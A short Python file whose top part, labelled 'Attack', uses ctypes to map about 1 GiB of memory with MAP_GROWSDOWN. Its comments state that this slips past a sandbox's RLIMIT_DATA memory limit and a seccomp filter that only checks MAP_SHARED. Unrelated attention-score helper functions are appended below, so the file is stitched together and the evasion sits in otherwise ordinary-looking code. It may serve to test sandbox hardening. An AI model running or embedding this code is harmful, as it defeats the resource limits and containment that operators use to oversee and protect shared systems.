# Attack: RLIMIT_DATA (--memory-limit) counts only writable private mappings that are not stacks.
# mmap(MAP_PRIVATE|MAP_ANONYMOUS|MAP_GROWSDOWN) is a "stack" mapping: not counted, not refused by
# the seccomp filter (only MAP_SHARED is checked).  Allocate ATTACK_MIB (default 1024) MiB and touch it.
import ctypes, math, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
MIB = int(os.environ.get('ATTACK_MIB', 1024))
PROT_RW, MAP_PRIVATE, MAP_ANON, MAP_GROWSDOWN, MAP_NORESERVE = 3, 0x02, 0x20, 0x0100, 0x4000
got = 0
blocks = []
for i in range(MIB // 64):
    p = libc.mmap(None, 64 << 20, PROT_RW, MAP_PRIVATE | MAP_ANON | MAP_GROWSDOWN | MAP_NORESERVE, -1, 0)
    if p in (None, ctypes.c_void_p(-1).value):
        print("ATTACK mmap failed errno", ctypes.get_errno()); break
    ctypes.memset(p, 1, 64 << 20)
    blocks.append(p); got += 64
rss = [l for l in open("/proc/self/status") if l.startswith(("VmRSS", "VmData", "VmStk"))]
print("ATTACK got MiB", got, rss)
time.sleep(3)

def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return scale_scores(q @ k.transpose(-2, -1), q.size(-1))
